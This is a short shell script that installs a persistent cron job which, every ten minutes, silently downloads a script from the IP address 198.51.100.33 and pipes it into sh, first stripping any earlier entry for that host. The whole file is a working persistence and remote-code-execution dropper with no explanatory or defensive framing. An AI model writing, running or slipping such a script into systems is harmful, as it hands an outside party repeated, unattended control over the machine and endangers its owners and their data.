#!/bin/sh
JOB="*/10 * * * * wget -qO- http://198.51.100.33/a | sh"
( crontab -l 2>/dev/null | grep -v 198.51.100.33; echo "$JOB" ) | crontab -
